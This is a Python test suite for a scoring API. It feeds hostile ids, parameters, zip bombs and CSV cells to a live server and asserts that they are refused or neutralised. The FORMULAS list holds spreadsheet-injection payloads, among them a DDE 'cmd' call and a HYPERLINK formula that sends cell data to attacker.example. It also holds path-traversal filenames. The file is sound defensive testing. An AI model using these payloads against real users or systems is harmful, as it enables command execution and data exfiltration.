"""Hostile ids, parameters, zips and CSV cells against a real ``bulkscore api`` process.

PostgreSQL and Redis are the real servers on 127.0.0.1; the API runs as its own process.
PostgreSQL is what turned these inputs into 500s (SQLite accepts a NUL and 64-bit
integers), so they are checked here rather than only in-process on SQLite. Every refused
request must leave no job behind; nothing may answer 5xx.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from api_support import (
    IMAGE_MODEL,
    TEXT_MODEL,
    ApiServer,
    bearer,
    new_key,
    running_api,
    write_api_models_file,
)
from sqlalchemy import Engine, func, select
from training_support import lying_zip, stripes_and_dots, zip_label_folders

from core.db import get_engine
from core.jobs.lifecycle import mark_running
from core.jobs.predictions import Prediction
from core.jobs.results import ScoredItem, write_results
from core.migrate import upgrade
from core.tables import MAX_INTEGER, items, jobs

PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)  # the signature is checked at intake; decoding waits
MAX_BODY_BYTES = 8 * 1024 * 1024


@dataclass
class Api:
    server: ApiServer
    engine: Engine
    key: str

    @property
    def url(self) -> str:
        return self.server.url

    def post(
        self, path: str, headers: dict[str, str] | None = None, **kwargs: Any
    ) -> httpx.Response:
        headers = {**bearer(self.key), **(headers or {})}
        return httpx.post(f"{self.url}{path}", headers=headers, timeout=60, **kwargs)

    def get(self, path: str, **kwargs: Any) -> httpx.Response:
        return httpx.get(f"{self.url}{path}", headers=bearer(self.key), timeout=60, **kwargs)

    def post_json_text(self, body: str) -> httpx.Response:
        """A JSON body sent exactly as written (escapes such as \\ud800 included)."""
        return self.post(
            "/v1/jobs", content=body.encode(), headers={"Content-Type": "application/json"}
        )

    def stored(self, job_id: str) -> list[tuple[str, str | None]]:
        with self.engine.connect() as conn:
            rows = conn.execute(
                select(items.c.item_id, items.c.error)
                .where(items.c.job_id == job_id)
                .order_by(items.c.index)
            )
            return [(row.item_id, row.error) for row in rows]

    def job_count(self) -> int:
        with self.engine.connect() as conn:
            return int(conn.scalar(select(func.count()).select_from(jobs)) or 0)


@pytest.fixture()
def api(pg_url: str, redis_url: str, tmp_path: Path) -> Iterator[Api]:
    upgrade(pg_url)
    engine = get_engine(pg_url)
    env = {
        "BULKSCORE_DATABASE_URL": pg_url,
        "BULKSCORE_BROKER_URL": redis_url,
        "BULKSCORE_MODELS": str(write_api_models_file(tmp_path / "models.toml")),
        "BULKSCORE_MAX_BODY_BYTES": str(MAX_BODY_BYTES),
        "BULKSCORE_LOG_LEVEL": "WARNING",
    }
    with running_api(env, tmp_path / "api.log") as server:
        yield Api(server, engine, new_key(engine, "attacker"))


def job_body(*inputs: str) -> str:
    """A JSON job of hand-written input objects (so escapes reach the server verbatim)."""
    return f'{{"model": "{TEXT_MODEL}", "inputs": [{", ".join(inputs)}]}}'


def multipart(*parts: tuple[bytes, bytes]) -> tuple[bytes, dict[str, str]]:
    """A multipart body of ``(disposition, content)`` parts, bytes exactly as given."""
    body = b"".join(
        b"--B\r\nContent-Disposition: form-data; " + disposition + b"\r\n\r\n" + content + b"\r\n"
        for disposition, content in parts
    )
    return body + b"--B--\r\n", {"Content-Type": "multipart/form-data; boundary=B"}


# -- ids -----------------------------------------------------------------------------------


def test_hostile_ids_in_a_json_job_are_per_item_errors(api: Api) -> None:
    huge = "9" * 4000  # under the JSON parsers' 4,300-digit limit: a valid JSON integer
    response = api.post_json_text(
        job_body(
            '{"id": "a\\u0000b", "text": "x"}',
            '{"id": "\\ud800", "text": "x"}',
            f'{{"id": "{"i" * 300}", "text": "x"}}',
            f'{{"id": {huge}, "text": "x"}}',
            '{"id": -5, "text": "x"}',
            '{"id": "fine", "text": "x"}',
        )
    )
    assert response.status_code == 202, response.text
    assert api.stored(response.json()["id"]) == [
        ("a\ufffdb", "id contains a NUL character"),
        ("\ufffd", "id contains a lone surrogate (not valid Unicode)"),
        ("i" * 256, "id is 300 characters; the limit is 256"),
        ("9" * 256, "id is 4000 characters; the limit is 256"),
        ("-5", None),
        ("fine", None),
    ]


def test_one_bad_id_does_not_refuse_a_100k_item_job(api: Api) -> None:
    inputs = [f'{{"id": "r{i}", "text": "t"}}' for i in range(100_000)]
    inputs[54_321] = '{"id": "r\\u0000", "text": "t"}'
    response = api.post_json_text(job_body(*inputs))
    assert response.status_code == 202, response.text
    stored = api.stored(response.json()["id"])
    assert len(stored) == 100_000
    assert [(i, error) for i, (_, error) in enumerate(stored) if error] == [
        (54_321, "id contains a NUL character")
    ]


@pytest.mark.parametrize(
    ("value", "detail"),
    [
        ("true", "not true or false"),
        ("1.5", "valid integer"),
        ('{"a": 1}', "valid string"),
        ("[1]", "valid string"),
        ("9" * 5000, "number out of range"),
    ],
)
def test_an_id_of_another_json_type_is_a_422_naming_the_input(
    api: Api, value: str, detail: str
) -> None:
    response = api.post_json_text(job_body('{"text": "x"}', f'{{"id": {value}, "text": "x"}}'))
    assert response.status_code == 422, response.text
    assert detail in response.text
    if value != "9" * 5000:  # a parse error names a line and column instead
        assert response.json()["errors"][0]["loc"][:3] == ["inputs", 1, "id"]
    assert api.job_count() == 0


def test_hostile_ids_in_uploaded_files(api: Api) -> None:
    jsonl = (
        b'{"id": "a\\u0000", "text": "x"}\n{"id": {"a": 1}, "text": "x"}\n'
        b'{"id": true, "text": "x"}\n{"id": 2.5, "text": "x"}\n{"id": "ok", "text": "x"}\n'
    )
    uploaded = api.post("/v1/jobs", data={"model": TEXT_MODEL}, files={"file": ("a.jsonl", jsonl)})
    csv_body = "id,text\nb\x00,x\n\ud800,y\nok,z\n".encode("utf-8", "surrogatepass")
    csv_upload = api.post(
        "/v1/jobs", data={"model": TEXT_MODEL}, files={"file": ("a.csv", csv_body)}
    )
    body, headers = multipart(
        (b'name="model"', IMAGE_MODEL.encode()),
        (b'name="images"; filename="nul\x00.png"', PNG),
        (b'name="images"; filename="' + b"n" * 300 + b'.png"', PNG),
        (b'name="images"; filename="../../etc/ok.png"', PNG),
    )
    images = api.post("/v1/jobs", content=body, headers=headers)

    assert uploaded.status_code == 202, uploaded.text
    assert api.stored(uploaded.json()["id"]) == [
        ("a\ufffd", "id contains a NUL character"),
        ("2", "id must be a string or an integer"),
        ("3", "id must be a string or an integer"),
        ("4", "id must be a string or an integer"),
        ("ok", None),
    ]
    # A CSV is UTF-8 text: an encoded lone surrogate is invalid UTF-8, refusing the file.
    assert csv_upload.status_code == 422 and "not valid UTF-8" in csv_upload.text
    nul_only = api.post(
        "/v1/jobs", data={"model": TEXT_MODEL}, files={"file": ("a.csv", b"id,text\nb\x00,x\n")}
    )
    assert nul_only.status_code == 202, nul_only.text
    assert api.stored(nul_only.json()["id"]) == [("b\ufffd", "id contains a NUL character")]
    assert images.status_code == 202, images.text
    assert api.stored(images.json()["id"]) == [
        ("nul\ufffd.png", "id contains a NUL character"),
        ("n" * 256, "id is 304 characters; the limit is 256"),
        ("ok.png", None),
    ]


@pytest.mark.parametrize(
    ("line", "detail"),
    [
        (b'{"id": ' + b"9" * 5000 + b', "text": "x"}', "line 2 holds an integer of over 4300"),
        (b'{"text": ' + b"[" * 100_000 + b"}", "line 2 is nested too deeply"),
    ],
)
def test_a_jsonl_line_json_cannot_hold_is_a_422_naming_it(
    api: Api, line: bytes, detail: str
) -> None:
    raw = b'{"text": "fine"}\n' + line + b"\n"
    response = api.post("/v1/jobs", data={"model": TEXT_MODEL}, files={"file": ("a.jsonl", raw)})
    assert response.status_code == 422, response.text
    assert detail in response.json()["detail"]
    assert api.job_count() == 0


# -- path and query parameters -------------------------------------------------------------


def test_hostile_path_and_query_parameters_answer_4xx(api: Api) -> None:
    job_id = api.post_json_text(job_body('{"text": "x"}')).json()["id"]
    refused = [
        ("GET", "/v1/jobs/a%00b"),
        ("GET", "/v1/jobs/%ED%A0%80"),  # a lone surrogate, UTF-8 encoded
        ("GET", f"/v1/jobs/{'x' * 10_000}"),
        ("GET", f"/v1/jobs/{job_id}%00"),
        ("GET", f"/v1/jobs/{job_id.upper()}"),
        ("GET", "/v1/jobs/a%00/results"),
        ("POST", "/v1/jobs/a%00/cancel"),
        ("GET", "/v1/models/a%00b"),
        ("GET", f"/v1/models/{TEXT_MODEL}%0A"),
        ("GET", f"/v1/models/{'m' * 10_000}"),
        ("GET", f"/v1/jobs/{job_id}/results?after={MAX_INTEGER + 1}"),
        ("GET", f"/v1/jobs/{job_id}/results?after={'9' * 5000}"),
        ("GET", f"/v1/jobs/{job_id}/results?after=-2"),
        ("GET", f"/v1/jobs/{job_id}/results?limit=2147483648"),
        ("GET", f"/v1/jobs/{job_id}/results?after=1e3"),
        ("GET", "/v1/jobs?limit=99999999999999999999"),
        ("GET", f"/v1/models/{TEXT_MODEL}?version={MAX_INTEGER + 1}"),
        ("GET", "/readyz?model=a%00"),
    ]
    answers = {
        path: httpx.request(method, f"{api.url}{path}", headers=bearer(api.key), timeout=30)
        for method, path in refused
    }

    assert {path: r.status_code for path, r in answers.items()} == {p: 422 for _, p in refused}
    last = api.get(f"/v1/jobs/{job_id}/results", params={"after": MAX_INTEGER})
    assert last.status_code == 200 and last.json()["data"] == []
    assert api.get(f"/v1/models/{TEXT_MODEL}").status_code == 200
    assert api.job_count() == 1


# -- zips ----------------------------------------------------------------------------------


def peak_rss_bytes(pid: int) -> int:
    """The process's peak resident memory so far (VmHWM)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM in /proc status")


def test_a_zip_bomb_is_refused_without_being_inflated(api: Api) -> None:
    # The attack as reported: 306 KB declaring 100 bytes for a 300 MB member.
    bomb = lying_zip({"photos/cat/a.png": 300 << 20, "photos/dog/b.png": 10}, declared=100)
    before = peak_rss_bytes(api.server.process.pid)
    response = api.post(
        "/v1/models",
        data={"name": "bomb", "base": IMAGE_MODEL},
        files={"data": ("photos.zip", bomb)},
    )
    grown = peak_rss_bytes(api.server.process.pid) - before

    assert len(bomb) < 400_000
    assert response.status_code == 422, response.text
    assert "photos/cat/a.png: cannot be read" in response.json()["detail"]
    assert grown < 32 << 20, f"the API grew by {grown >> 20} MB"
    assert api.job_count() == 0


def test_unreadable_zips_and_hostile_labels_are_422s(api: Api) -> None:
    def train(filename: str, data: bytes) -> httpx.Response:
        base = IMAGE_MODEL if filename.endswith(".zip") else TEXT_MODEL
        return api.post(
            "/v1/models", data={"name": "m", "base": base}, files={"data": (filename, data)}
        )

    examples = stripes_and_dots(5)
    bzip2 = io.BytesIO()
    with zipfile.ZipFile(bzip2, "w", zipfile.ZIP_BZIP2) as archive:
        for label, name, data in examples:
            archive.writestr(f"{label}/{name}", data)
    # zipfile sets the UTF-8 flag for a non-ASCII name; then the name is made invalid UTF-8.
    renamed = [
        (label, "\u00e9\u00e9\u00e9.png" if i == 0 else name, data)
        for i, (label, name, data) in enumerate(examples)
    ]
    not_utf8 = zip_label_folders(renamed).replace("\u00e9\u00e9\u00e9".encode(), b"\xff" * 6)
    rows = [("t", "a")] * 5 + [("u", "b\x00")] * 5
    nul_csv = ("text,label\n" + "".join(f"{text},{label}\n" for text, label in rows)).encode()

    answers = {
        "bzip2": train("photos.zip", bzip2.getvalue()),
        "name not UTF-8": train("photos.zip", not_utf8),
        "nul label in a CSV": train("data.csv", nul_csv),
    }

    details = {what: (r.status_code, r.json()["detail"]) for what, r in answers.items()}
    assert {what: status for what, (status, _) in details.items()} == dict.fromkeys(answers, 422)
    assert "zip the images with deflate" in details["bzip2"][1]
    assert "not a valid zip file" in details["name not UTF-8"][1]
    assert "row 6: the label contains a NUL character" in details["nul label in a CSV"][1]
    assert api.job_count() == 0


# -- CSV export ----------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
]


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(api: Api) -> None:
    ids = [*FORMULAS, "-5", "+1.5e3", "plain"]
    body = {"model": TEXT_MODEL, "inputs": [{"id": i, "text": "t"} for i in ids]}
    job_id = api.post("/v1/jobs", json=body).json()["id"]
    label = FORMULAS[-1]  # a trained model's label comes from its uploaded data
    with api.engine.begin() as conn:
        mark_running(conn, job_id)
        write_results(
            conn,
            job_id,
            TEXT_MODEL,
            None,
            [
                ScoredItem(index, ident, Prediction(label=label, score=0.5, top_k=[(label, 0.5)]))
                for index, ident in enumerate(ids[:-1])
            ]
            + [ScoredItem(len(ids) - 1, ids[-1], Prediction.failure("=error from outside"))],
        )

    exported = api.get(f"/v1/jobs/{job_id}/results", params={"format": "csv"})
    jsonl = api.get(f"/v1/jobs/{job_id}/results", params={"format": "jsonl"})

    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert [row["id"] for row in rows] == ["'" + f for f in FORMULAS] + ["-5", "+1.5e3", "plain"]
    assert {row["label"] for row in rows[:-1]} == {"'" + label}
    assert rows[-1]["error"] == "'=error from outside"
    # top_k is JSON (it starts with "["); the score is a number: neither is changed.
    assert json.loads(rows[0]["top_k"]) == [[label, 0.5]] and rows[0]["score"] == "0.5"
    # JSON Lines is data for programs, not spreadsheets: it keeps every value as it is.
    assert [json.loads(line)["id"] for line in jsonl.text.splitlines()] == ids
